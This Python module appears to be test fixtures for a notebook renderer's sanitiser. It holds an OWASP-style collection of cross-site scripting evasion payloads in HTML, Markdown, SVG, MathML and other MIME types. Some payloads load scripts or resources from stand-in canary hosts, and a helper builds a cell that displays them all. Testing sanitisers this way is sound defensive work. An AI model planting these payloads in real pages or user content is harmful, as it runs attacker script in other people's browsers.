"""Ways to run a script in another person's browser, as OWASP's cheat sheet on filters lists them.

Each says so on the console when it runs. Some do so only when somebody points at them or follows
them, and some send a request to a place with `canary` in its address.
"""

import base64
import textwrap

RAN = "it runs"
_JS = f"console.log('{RAN}')"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_JS}</script><circle r='9'/></svg>"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_PAGE = f"data:text/html;base64,{_base64(f'<script>{_JS}</script>')}"
_CODED = "".join(f"&#{ord(c)};" for c in "javascript:")

HTML = {
    "script": f"<script>{_JS}</script>",
    "script from elsewhere": "<script src='//canary.invalid/x.js'></script>",
    "script of a submission": "<script src='canary.js'></script>",
    "script in mixed case": f"<ScRiPt >{_JS}</sCrIpT>",
    "script within script": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script without an end": f"<script>{_JS}//",
    "script with a slash": f"<script/x>{_JS}</script>",
    "script with two brackets": f"<<script>{_JS}//<</script>",
    "script with a nul": f"<scr\0ipt>{_JS}</scr\0ipt>",
    "error": f'<img src=x onerror="{_JS}">',
    "error with slashes": f'<img/src=x/onerror="{_JS}">',
    "error with a form feed": f'<img\x0csrc=x\x0conerror="{_JS}">',
    "error in mixed case": f'<IMG SRC=x OnErRoR="{_JS}">',
    "error in backticks": f"<img src=`x` onerror=`{_JS}`>",
    "error without an end": f'<img src=x onerror="{_JS}" ',
    "error of three quotes": f'<img """><img src=x onerror="{_JS}">">',
    "error in letters of entities": f'<img src=x onerror="{_JS.replace("c", "&#99;")}">',
    "error of an image element": f'<image src=x onerror="{_JS}">',
    "load": f'<body onload="{_JS}">',
    "load of svg": f'<svg onload="{_JS}">',
    "focus": f'<input autofocus onfocus="{_JS}">',
    "focus of anything": f'<p tabindex=1 autofocus onfocus="{_JS}">x</p>',
    "pointer": f'<b onmouseover="{_JS}" onpointerenter="{_JS}">x</b>',
    "toggle": f'<details open ontoggle="{_JS}">x</details>',
    "animation": f'<style>@keyframes x {{}}</style><b style="animation-name:x" '
    f'onanimationstart="{_JS}">x</b>',
    "media": f'<video><source onerror="{_JS}"></video><audio src=x onerror="{_JS}">',
    "marquee": f'<marquee onstart="{_JS}">x</marquee>',
    "select": f'<select autofocus onfocus="{_JS}"></select>',
    "link": f'<a href="javascript:{_JS}">x</a>',
    "link in mixed case": f'<a href="JaVaScRiPt:{_JS}">x</a>',
    "link with a tab": f'<a href="jav\tascript:{_JS}">x</a>',
    "link with a coded tab": f'<a href="jav&#x09;ascript:{_JS}">x</a>',
    "link with a coded line": f'<a href="java&NewLine;script&colon;{_JS}">x</a>',
    "link with a control": f'<a href=" &#14; javascript:{_JS}">x</a>',
    "link with a first control": f'<a href="\x01javascript:{_JS}">x</a>',
    "link in entities": f'<a href="{_CODED}{_JS}">x</a>',
    "link in entities without ends": f'<a href="{_CODED.replace(";", "")}{_JS}">x</a>',
    "link in Visual Basic": f'<a href="vbscript:{_JS}">x</a>',
    "link to data": f'<a href="{_PAGE}">x</a>',
    "link of a form": f'<form action="javascript:{_JS}"><button>x</button></form>',
    "link of a button": f'<form id=f></form><button form=f formaction="javascript:{_JS}">x',
    "link of an area": f'<map name=m><area shape=default href="javascript:{_JS}"></map>',
    "form that posts": '<form action="/canary" method="post"><button>x</button></form>',
    "picture": f'<img src="javascript:{_JS}">',
    "picture of a page": f'<img src="{_PAGE}">',
    "picture elsewhere": '<img src="http://canary.invalid/x.png">',
    "picture of the formgrader": '<img src="/formgrader?path=canary">',
    "picture set": '<img srcset="/formgrader?path=canary 1x"><picture><source srcset="/canary">',
    "input picture": '<input type="image" src="/canary">',
    "background": '<table background="/canary"><td background="/canary">x</td></table>',
    "frame": f'<iframe src="javascript:{_JS}"></iframe>',
    "frame of a page": f'<iframe src="{_PAGE}"></iframe>',
    "frame with a text": f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    "frame set": f'<frameset><frame src="javascript:{_JS}"></frameset>',
    "object": f'<object data="{_PAGE}"></object>',
    "embed": f'<embed src="data:image/svg+xml;base64,{_base64(_SVG)}">',
    "applet": '<applet code="canary"></applet>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{_JS}">',
    "meta refresh elsewhere": '<meta http-equiv="refresh" content="0;url=/canary">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="http://canary.invalid/">',
    "style sheet": '<link rel="stylesheet" href="/canary">',
    "prefetch": '<link rel="prefetch" href="/canary"><link rel="icon" href="/canary">',
    "style import": "<style>@import '/canary';</style>",
    "style background": "<style>body { background: url(/canary) }</style>",
    "style attribute": '<b style="background: url(/canary); list-style: url(/canary)">x</b>',
    "style expression": f'<b style="width: expression({_JS}); -moz-binding: url(/canary)">x</b>',
    "style in entities": '<b style="color:red&#59 background:url(/canary)">x</b>',
    "style in escapes": r'<b style="b\61ckground: u\72l(/canary)">x</b>',
    "style scoped": f"<style scoped><b></style scoped></style><script>{_JS}</script>",
    "style scoped around": f"<scr<style scoped></style>ipt>{_JS}</script>",
    "svg": _SVG,
    "svg link": f'<svg><a xlink:href="javascript:{_JS}"><text y=20>x</text></a></svg>',
    "svg set": f'<svg><a><set attributeName=href to="javascript:{_JS}"/>'
    "<text y=20>x</text></a></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{_JS}"/>'
    "<text y=20>x</text></a></svg>",
    "svg begin": f'<svg><animate onbegin="{_JS}" attributeName=x dur=1s></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_base64(_SVG)}#x"/></svg>',
    "svg object": f'<svg><foreignObject><img src=x onerror="{_JS}"></foreignObject></svg>',
    "svg style": f'<svg><style><img src=x onerror="{_JS}"></style></svg>',
    "math link": f'<math><mrow href="javascript:{_JS}"><mi>x</mi></mrow></math>',
    "math old link": f'<math xlink:href="javascript:{_JS}"><mi>x</mi></math>',
    "math action": f'<math><maction actiontype="statusline#{_JS}" xlink:href="javascript:{_JS}">x',
    "math and style": f"<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={_JS}&gt;">',
    "math and annotation": f'<math><annotation-xml encoding="text/html"><script>{_JS}</script>',
    "math and a paragraph": f'<math></p><style><!--</style><img src/onerror="{_JS}">',
    "template": f"<template><script>{_JS}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>',
    "title": f'<title><a href="</title><img src=x onerror={_JS}>">',
    "textarea": f'<textarea><a href="</textarea><img src=x onerror={_JS}>">',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={_JS}>">',
    "plaintext": f"<noembed><noframes><xmp></xmp></noframes><script>{_JS}</script>",
    "comment": f'<!--><img src=x onerror="{_JS}">-->',
    "comment with an exclamation mark": f'<!-- --!><img src=x onerror="{_JS}"> -->',
    "conditional comment": f"<!--[if gte IE 4]><script>{_JS}</script><![endif]-->",
    "processing instruction": f'<?xml version="1.0"?><script>{_JS}</script>',
    "cdata": f'<![CDATA[<img src=x onerror="{_JS}">]]>',
    "declaration": f'<!DOCTYPE x [<!ENTITY y "<script>{_JS}</script>">]>&y;',
    "end of the page": f"</div></body></html><script>{_JS}</script>",
    "end of a script": f"</script><script>{_JS}</script>",
    "end of a comment": f"--><script>{_JS}</script><!--",
    "end of an attribute": f"\"><script>{_JS}</script>'><script>{_JS}</script>",
    "malformed letters": f'<img src="\udcff" onerror="{_JS}">'.encode("utf-8", "replace").decode(),
    "wide brackets": f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e",
    "seven bits": f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-",
    "deep": "<div><table><b>" * 60 + f"<script>{_JS}</script>",
}

MARKDOWN = {
    "link": f"[x](javascript:{_JS})",
    "link in mixed case": f"[x](JaVaScRiPt:{_JS})",
    "link with an entity": f"[x](java&#x73;cript&colon;{_JS})",
    "link with a tab": f"[x](<jav\tascript:{_JS}>)",
    "link in brackets": f"<javascript:{_JS}>",
    "link by reference": f"[x][y]\n\n[y]: javascript:{_JS}",
    "link to data": f"[x]({_PAGE})",
    "link with a title": f"[x](https://a.invalid '\"><img src=x onerror={_JS}>')",
    "link with an attribute": f'[x](https://a.invalid/"onmouseover="{_JS})',
    "picture": f"![x](javascript:{_JS})",
    "picture of the formgrader": "![x](/formgrader?path=canary)",
    "picture elsewhere": "![x](http://canary.invalid/x.png)",
    "picture of a page": f"![x]({_PAGE})",
    "picture with an attribute": f'![x](x"onerror="{_JS})',
    "picture with a description": f'![x"onerror="{_JS}](x)',
    "heading": f"# <img src=x onerror={_JS}>",
    "heading with entities": f"# &lt;img src=x onerror={_JS}&gt;",
    "code": f"`<img src=x onerror={_JS}>`",
    "code with a language": f'```"><img/src=x/onerror={_JS}>\nx\n```',
    "mermaid": f"```mermaid\n</pre><img src=x onerror={_JS}>\n```",
    "table": f"| <img src=x onerror={_JS}> | x |\n|---|---|\n| [x](javascript:{_JS}) | x |",
    "formula": f"$<img src=x onerror={_JS}>$",
    "formula with a text": f"$\\text{{<script>{_JS}</script>}}$",
    "formula with slashes": f"$\\text{{<img/src=x/onerror={_JS}>}}$",
    "formula with entities": f"$\\text{{&lt;img/src=x/onerror={_JS}&gt;}}$",
    "formula that leads elsewhere": f"$\\href{{javascript:{_JS}}}{{x}}$",
    "formula with a style": "$\\style{background:url(/canary)}{x}$",
    "formula that is none": f"$a^b^<img/src=x/onerror={_JS}>$",
    "environment": f"\\begin{{align}}</math><img src=x onerror={_JS}>\\end{{align}}",
    "attachment that is missing": "![x](attachment:canary)",
    "item to tick": f"- [x] <img src=x onerror={_JS}>",
    "reference in a comment": f"[//]: # (--><script>{_JS}</script>)",
}


def displays() -> str:
    """Write the code of a cell whose outputs are all of them, in every form that a page shows."""
    shown = [{"text/html": text} for text in HTML.values()]
    shown += [{"text/markdown": text} for text in MARKDOWN.values()]
    shown += [{"image/svg+xml": text} for name, text in HTML.items() if name.startswith("svg")]
    script = HTML["script"]
    shown += [
        {"application/javascript": _JS},
        {"text/javascript": _JS},
        {"text/latex": script},
        {"text/latex": f"$\\href{{javascript:{_JS}}}{{x}}$"},
        {"text/plain": script},
        {"text/vnd.mermaid": f"</pre>{script}"},
        {"application/json": '{"a": "</script>' + script + '"}'},
        {"application/vnd.jupyter.widget-view+json": f'"</script>{script}"'},
        {"application/pdf": script},
        {"image/png": f'x" onerror="{_JS}'},
        {"image/jpeg": f'x"><script>{_JS}</script>'},
    ]
    return textwrap.dedent(
        f"""\
        import sys
        from IPython.display import display
        for data in {shown!r}:
            display(data, raw=True, metadata={{"text/html": {{"isolated": True}}}})
        print({script!r})
        print({script!r}, file=sys.stderr)
        raise ValueError({script!r})
        """
    )
